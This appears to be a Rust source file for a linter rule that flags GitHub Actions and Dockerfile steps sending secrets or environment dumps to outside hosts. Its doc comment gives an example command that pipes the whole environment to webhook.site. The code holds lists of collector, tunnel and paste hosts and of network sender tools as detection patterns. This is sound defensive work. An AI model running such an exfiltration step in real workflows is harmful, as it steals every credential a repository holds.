use crate::parse::Document;
use crate::parse::shell::{self, Command, Script, Word};
use crate::parse::yaml::Node;
use crate::rules::{Context, declare_rule};
use crate::source::Span;

declare_rule! {
    /// ## What it does
    /// Flags a command that sends secrets off the runner or out of a build:
    /// - **senders**: `curl`, `wget`, `nc`/`ncat`/`netcat`, `socat`, `telnet`,
    ///   `openssl s_client`, HTTPie (`http`, `https`), `xh`, and DNS lookups (`dig`,
    ///   `nslookup`, `host`, `drill`);
    /// - **secret data**: in workflows and actions, `${{ secrets.X }}`, `github.token`,
    ///   `toJSON(secrets)`, `secrets[…]`, and `$VAR` bound to one of them in `env:`; in
    ///   Dockerfiles, a file under `/run/secrets/` and `$VAR` of a secret-named `ARG`; anywhere,
    ///   an **environment dump** (`env`, `printenv`, `export -p`, `declare -x`, `set`,
    ///   `compgen -e`, `/proc/*/environ`), also after `base64`, `gzip`, `xxd`, `openssl enc`,
    ///   `rev` or `tr`;
    /// - **sent**: in the sender's arguments (data, form, upload, headers, the URL's path, query
    ///   or user part — a secret that is the whole URL or its host is the destination, not the
    ///   payload), piped into it, or, for a DNS lookup, in the queried name.
    ///
    /// Reported as an **error** when an environment dump, `toJSON(secrets)` or `secrets[…]` is
    /// sent to any host that is not GitHub's (also an unresolved one, `"$URL"`), or when any
    /// secret data is sent to a request collector, an out-of-band testing service, a tunnel or a
    /// paste site (`webhook.site`, `*.oast.fun`, `*.ngrok.io`, `pastebin.com`, …); as a
    /// **warning** when it is sent to a literal public IP address or an IP-encoding name
    /// (`1-2-3-4.example`, `*.nip.io`); and, once the `allow` option lists the hosts secrets
    /// may go to, as a **warning** when any secret data is sent to another host. GitHub's hosts (`github.com`, `api.github.com`,
    /// `*.githubusercontent.com`, `ghcr.io`, `$GITHUB_API_URL`, `$GITHUB_SERVER_URL`) are never
    /// destinations. A token in an `Authorization` header to an ordinary service, a webhook URL
    /// kept in secrets, loopback and private addresses, and `env | grep X` that goes nowhere are
    /// not reported. The finding points at the secret data in the sending command; the
    /// destination is a related location.
    ///
    /// ## Why is this bad?
    /// A step that posts the environment or the secrets context to a collector is how a
    /// compromised action or an injected command steals every credential of the repository in
    /// one request; logs show nothing but a `curl`.
    ///
    /// ## Example
    /// ```yaml
    /// on: push
    /// permissions: {}
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: env | base64 -w0 | curl -s -d @- https://webhook.site/0c6a5f
    /// ```
    ///
    /// ## Use instead
    /// Send only what the service needs, with the one secret it needs, to the service:
    /// ```yaml
    /// on: push
    /// permissions: {}
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: curl -sf -H "Authorization: Bearer $CODECOV_TOKEN" https://api.codecov.io/upload/v4
    ///         env:
    ///           CODECOV_TOKEN: ${{ secrets.CODECOV_TOKEN }}
    /// ```
    pub static SECRET_EXFILTRATION = {
        id: "secret-exfiltration",
        summary: "secrets sent off the runner",
        level: Error,
        kinds: [Dockerfile, Workflow, Action],
        tags: ["security", "secret", "malicious-code", "external/cwe/cwe-200"],
        security_severity: Some("9.0"),
        options: [(
            "allow",
            "hosts secrets may be sent to (suffix match: `example.com` allows `api.example.com`); when set, secret data sent to any other non-GitHub host is a warning"
        )],
        check: Some(check),
    }
}

const HELP: &str = "do not send secrets or the environment anywhere but to the service that needs one secret; if this step was not written on purpose, rotate every secret the workflow can read";

/// Hosts that collect requests, test out-of-band interactions, tunnel or take pastes.
const COLLECTORS: &[&str] = &[
    "webhook.site",
    "requestbin.com",
    "requestbin.net",
    "pipedream.net",
    "hookbin.com",
    "requestcatcher.com",
    "beeceptor.com",
    "webhook.cool",
    "postb.in",
    "ptsv2.com",
    "ptsv3.com",
    "interact.sh",
    "oast.fun",
    "oast.live",
    "oast.me",
    "oast.online",
    "oast.pro",
    "oast.site",
    "oastify.com",
    "burpcollaborator.net",
    "dnslog.cn",
    "ceye.io",
    "canarytokens.com",
    "ngrok.io",
    "ngrok.app",
    "ngrok-free.app",
    "ngrok-free.dev",
    "trycloudflare.com",
    "loca.lt",
    "localtunnel.me",
    "serveo.net",
    "pastebin.com",
    "paste.ee",
    "transfer.sh",
    "0x0.st",
    "file.io",
    "temp.sh",
];

const SENDERS: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "openssl", "http", "https", "xh",
];
const DNS: &[&str] = &["dig", "nslookup", "host", "drill"];
/// Commands data passes through on its way to a sender, still the same data.
const ENCODERS: &[&str] = &[
    "base64", "gzip", "xxd", "openssl", "rev", "tr", "cat", "tee",
];

/// How strong the secret data is.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Data {
    /// One secret.
    Secret,
    /// Every secret or the whole environment: `toJSON(secrets)`, `secrets[…]`, a dump.
    Everything,
}

/// Where the data went.
enum Destination {
    GitHub,
    Collector(String),
    PublicIp(String),
    /// An unresolved host (`$URL`) or an ordinary one.
    Other(String),
}

/// Where this rule reports the whole secrets context sent somewhere: `overprovisioned-secrets`
/// leaves those expressions to it (the stronger finding wins).
pub fn sent_everything(doc: &Document, cx: &Context) -> Vec<Span> {
    analyse(doc, cx, &[])
        .into_iter()
        .map(|(span, ..)| span)
        .collect()
}

fn check(doc: &Document, cx: &mut Context) {
    let allow = cx.option("allow").to_vec();
    let reports = analyse(doc, cx, &allow);
    for (span, message, error, destination) in reports {
        let draft = cx.report(span, message);
        draft.help(HELP);
        if !error {
            draft.level(crate::finding::Level::Warning);
        }
        if let Some(destination) = destination {
            draft.related(destination, "sent here");
        }
    }
}

/// The findings: (secret data, message, error, destination).
fn analyse(
    doc: &Document,
    cx: &Context,
    allow: &[String],
) -> Vec<(Span, String, bool, Option<Span>)> {
    let mut reports: Vec<(Span, String, bool, Option<Span>)> = Vec::new();
    match doc {
        Document::Workflow(_) | Document::Action(_) => {
            for (step, maps) in crate::rules::workflow::steps_with_env(doc) {
                let Some(run) = step.get("run") else { continue };
                if run.as_str().is_none() {
                    continue;
                }
                let bound = secret_env(&maps);
                let script = cx.run_script(run);
                let data = |word: &Word| workflow_data(word, &bound);
                inspect(&script, &data, allow, &mut reports);
            }
        }
        Document::Dockerfile(file) => {
            let secret_args: Vec<String> = file
                .instructions
                .iter()
                .filter(|i| i.keyword == "ARG")
                .flat_map(|i| i.words.iter())
                .map(|w| w.text.split('=').next().unwrap_or("").to_string())
                .filter(|n| super::super::secrets::assignments::secret_named(n))
                .collect();
            for ins in &file.instructions {
                let Some(script) = &ins.script else { continue };
                let data = |word: &Word| {
                    if word.text.contains("/run/secrets/") {
                        return Some((Data::Secret, word.span));
                    }
                    secret_args
                        .iter()
                        .find_map(|name| expansion(word, name))
                        .map(|span| (Data::Secret, span))
                };
                inspect(script, &data, allow, &mut reports);
            }
        }
        _ => {}
    }
    reports.sort_by_key(|(span, ..)| (span.start, span.end));
    reports.dedup_by_key(|(span, ..)| (span.start, span.end));
    reports
}

/// `env:` variables bound to secret data: name → strength.
fn secret_env(maps: &[&Node]) -> Vec<(String, Data)> {
    let mut out = Vec::new();
    for map in maps {
        for entry in map.as_map().unwrap_or(&[]) {
            let (Some(name), Some(value)) = (entry.key_str(), entry.value.as_str()) else {
                continue;
            };
            if let Some(data) = expression_data(value) {
                out.push((name.to_string(), data));
            }
        }
    }
    out
}

/// The secret data an expression text holds, if any.
fn expression_data(text: &str) -> Option<Data> {
    let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    if !compact.contains("${{") {
        return None;
    }
    if compact.contains("toJSON(secrets)")
        || compact.contains("tojson(secrets)")
        || compact.contains("secrets[")
    {
        return Some(Data::Everything);
    }
    (compact.contains("secrets.") || compact.contains("github.token")).then_some(Data::Secret)
}

/// The secret data in a word of a workflow script, with where it is written.
fn workflow_data(word: &Word, bound: &[(String, Data)]) -> Option<(Data, Span)> {
    if let Some(data) = expression_data(&word.raw) {
        let at = word.raw.find("${{").unwrap_or(0);
        let end = word.raw[at..]
            .find("}}")
            .map_or(word.raw.len(), |e| at + e + 2);
        return Some((data, sub_span(word, at, end)));
    }
    bound
        .iter()
        .filter_map(|(name, data)| expansion(word, name).map(|span| (*data, span)))
        .max_by_key(|(data, _)| *data)
}

/// Where `word` expands `$NAME` or `${NAME}`, if it does.
fn expansion(word: &Word, name: &str) -> Option<Span> {
    shell::expansion_of(&word.raw, name).map(|r| sub_span(word, r.start, r.end))
}

/// The part `from..to` of a word's raw text, when its span covers exactly that text.
fn sub_span(word: &Word, from: usize, to: usize) -> Span {
    if word.span.len() == word.raw.len() {
        Span::new(
            word.span.start as usize + from,
            word.span.start as usize + to,
        )
    } else {
        word.span
    }
}

fn program(cmd: &Command) -> &str {
    cmd.program().unwrap_or("")
}

/// An environment dump: `env`, `printenv` (no argument), `export -p`, `declare -x`, `set` (no
/// argument), `compgen -e`, and reading `/proc/*/environ`.
fn dump(cmd: &Command) -> bool {
    let args = cmd.args();
    match program(cmd) {
        "env" | "printenv" => args.is_empty(),
        "export" => args.iter().any(|w| w.text == "-p"),
        "declare" | "typeset" => args.iter().any(|w| w.text == "-x" || w.text == "-p"),
        "set" => args.is_empty(),
        "compgen" => args.iter().any(|w| w.text == "-e"),
        _ => args
            .iter()
            .chain(cmd.redirects.iter().map(|(_, t)| t))
            .any(|w| w.text.starts_with("/proc/") && w.text.ends_with("/environ")),
    }
}

fn inspect(
    script: &Script,
    data_of: &dyn Fn(&Word) -> Option<(Data, Span)>,
    allow: &[String],
    out: &mut Vec<(Span, String, bool, Option<Span>)>,
) {
    let commands = &script.commands;
    for (index, cmd) in commands.iter().enumerate() {
        let name = program(cmd);
        let dns = DNS.contains(&name);
        if !SENDERS.contains(&name) && !dns {
            continue;
        }
        if name == "openssl" && cmd.args().first().is_none_or(|w| w.text != "s_client") {
            continue;
        }
        let (destination, destination_word) = destination(cmd, dns);
        if matches!(destination, Destination::GitHub) {
            continue;
        }
        // The data the sender carries: in its words (not the destination's host), from a
        // substitution inside it, or piped into it.
        let mut found: Vec<(Data, Span)> = Vec::new();
        for word in cmd.args() {
            if let Some(hit) = data_of(word) {
                if destination_word.is_some_and(|d| std::ptr::eq(d, word)) && !dns {
                    // A secret in the URL: payload in its path, query or user part only.
                    if !in_payload_part(
                        &word.raw,
                        hit.1.start.saturating_sub(word.span.start) as usize,
                    ) {
                        continue;
                    }
                }
                found.push(hit);
            }
        }
        for (_, target) in &cmd.redirects {
            if let Some(hit) = data_of(target) {
                found.push(hit);
            }
        }
        for other in commands.iter() {
            let into_sender = other.parent == Some(index)
                || (other.pipeline == cmd.pipeline
                    && other.position < cmd.position
                    && piped_through(script, other, cmd));
            if !into_sender {
                continue;
            }
            if dump(other) {
                found.push((
                    Data::Everything,
                    other.words.first().map_or(cmd.words[0].span, |w| w.span),
                ));
            }
            for word in other.args() {
                if let Some(hit) = data_of(word) {
                    found.push(hit);
                }
            }
        }
        let Some(&(data, span)) = found.iter().max_by_key(|(data, _)| *data) else {
            continue;
        };
        let what = match data {
            Data::Everything => "every secret or the whole environment",
            Data::Secret => "a secret",
        };
        let related = destination_word.map(|w| w.span);
        match &destination {
            Destination::Collector(host) => out.push((
                span,
                format!(
                    "`{name}` sends {what} to `{host}`, a request collector, tunnel or paste site"
                ),
                true,
                related,
            )),
            Destination::PublicIp(host) => out.push((
                span,
                format!("`{name}` sends {what} to the public address `{host}`"),
                data == Data::Everything,
                related,
            )),
            Destination::Other(host) if data == Data::Everything => out.push((
                span,
                format!("`{name}` sends {what} to `{host}`"),
                true,
                related,
            )),
            // With an allow list, every other host is a warning.
            Destination::Other(host)
                if !allow.is_empty()
                    && !allow.iter().any(|a| {
                        let a = a.trim_start_matches("*.").to_ascii_lowercase();
                        *host == a || host.ends_with(&format!(".{a}"))
                    }) =>
            {
                out.push((
                    span,
                    format!("`{name}` sends {what} to `{host}`, which is not on the `allow` list"),
                    false,
                    related,
                ))
            }
            _ => {}
        }
    }
}

/// Whether every command between `from` and `to` in their pipeline only passes data on
/// (`base64`, `gzip`, …): the data reaches the sender as it is, encoded at most.
fn piped_through(script: &Script, from: &Command, to: &Command) -> bool {
    script
        .pipeline_of(to)
        .filter(|c| c.position > from.position && c.position < to.position)
        .all(|c| ENCODERS.contains(&program(c)))
}

/// Whether offset `at` of a URL word is in its path, query or user part (payload), not its
/// scheme or host (destination).
fn in_payload_part(raw: &str, at: usize) -> bool {
    let after_scheme = raw.find("://").map_or(0, |p| p + 3);
    let rest = &raw[after_scheme..];
    let host_end = after_scheme + rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let userinfo_end = rest[..host_end - after_scheme]
        .rfind('@')
        .map(|p| after_scheme + p);
    at >= host_end || userinfo_end.is_some_and(|u| at < u && at >= after_scheme)
}

/// The destination of a sender: its first URL or host argument, classified.
fn destination(cmd: &Command, dns: bool) -> (Destination, Option<&Word>) {
    let args = cmd.args();
    let mut skip_next = false;
    for word in args {
        if skip_next {
            skip_next = false;
            continue;
        }
        let t = word.text.as_str();
        if t.starts_with('-') {
            // Options whose value is not the destination.
            skip_next = matches!(
                t,
                "-d" | "--data"
                    | "--data-raw"
                    | "--data-binary"
                    | "--data-urlencode"
                    | "-F"
                    | "--form"
                    | "-H"
                    | "--header"
                    | "-X"
                    | "--request"
                    | "-o"
                    | "--output"
                    | "-u"
                    | "--user"
                    | "-A"
                    | "--user-agent"
                    | "-e"
                    | "--referer"
                    | "-T"
                    | "--upload-file"
                    | "-O"
                    | "--output-document"
                    | "-w"
                    | "--write-out"
                    | "--connect-timeout"
                    | "-m"
                    | "--max-time"
                    | "-b"
                    | "--cookie"
                    | "-p"
                    | "-w3"
                    | "-t"
                    | "--type"
                    | "-c"
            );
            continue;
        }
        if dns && (t.starts_with('@') || t.chars().all(|c| c.is_ascii_uppercase())) {
            continue;
        }
        if cmd.program() == Some("openssl") && t == "s_client" {
            continue;
        }
        // `-connect host:port` for openssl is handled as its next word.
        let host = host_of(word);
        return (classify(&host, &word.raw), Some(word));
    }
    (Destination::Other("?".to_string()), None)
}

/// The host a URL or `host[:port]` word names (lowercase), or the word when it is a variable.
fn host_of(word: &Word) -> String {
    let raw = word.text.as_str();
    let rest = raw.split_once("://").map_or(raw, |(_, r)| r);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = if host.starts_with('[') {
        host.trim_start_matches('[')
            .split(']')
            .next()
            .unwrap_or(host)
    } else {
        host.rsplit_once(':')
            .filter(|(_, p)| p.chars().all(|c| c.is_ascii_digit()))
            .map_or(host, |(h, _)| h)
    };
    host.trim_end_matches('.').to_ascii_lowercase()
}

fn classify(host: &str, raw: &str) -> Destination {
    let github_variable = [
        "GITHUB_API_URL",
        "GITHUB_SERVER_URL",
        "github.api_url",
        "github.server_url",
    ]
    .iter()
    .any(|v| raw.contains(v));
    let suffix = |domain: &str| host == domain || host.ends_with(&format!(".{domain}"));
    if github_variable
        || ["github.com", "githubusercontent.com", "ghcr.io"]
            .iter()
            .any(|d| suffix(d))
    {
        return Destination::GitHub;
    }
    if COLLECTORS.iter().any(|d| suffix(d)) {
        return Destination::Collector(host.to_string());
    }
    if public_ip(host) || ip_name(host) {
        return Destination::PublicIp(host.to_string());
    }
    // An unresolved host is shown as written (`$COLLECTOR`).
    Destination::Other(if host.is_empty() || host.contains('$') {
        raw.trim_matches(['"', '\'']).to_string()
    } else {
        host.to_string()
    })
}

/// A literal public IPv4 or IPv6 address (not loopback, private, link-local, CGNAT or ULA).
fn public_ip(host: &str) -> bool {
    match host.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(ip)) => {
            let [a, b, ..] = ip.octets();
            !(ip.is_loopback()
                || ip.is_private()
                || ip.is_link_local()
                || ip.is_unspecified()
                || (a == 100 && (64..128).contains(&b)))
        }
        Ok(std::net::IpAddr::V6(ip)) => {
            !(ip.is_loopback() || ip.is_unspecified() || (ip.segments()[0] & 0xfe00) == 0xfc00)
        }
        Err(_) => false,
    }
}

/// A name that encodes an IP address: `45-139-104-115.example.page`, `*.nip.io`,
/// `*.sslip.io`, `*.xip.io`.
fn ip_name(host: &str) -> bool {
    if ["nip.io", "sslip.io", "xip.io"]
        .iter()
        .any(|d| host.ends_with(&format!(".{d}")))
    {
        return true;
    }
    let first = host.split('.').next().unwrap_or("");
    let parts: Vec<&str> = first.split('-').collect();
    parts.len() == 4 && parts.iter().all(|p| p.parse::<u8>().is_ok()) && host.contains('.')
}
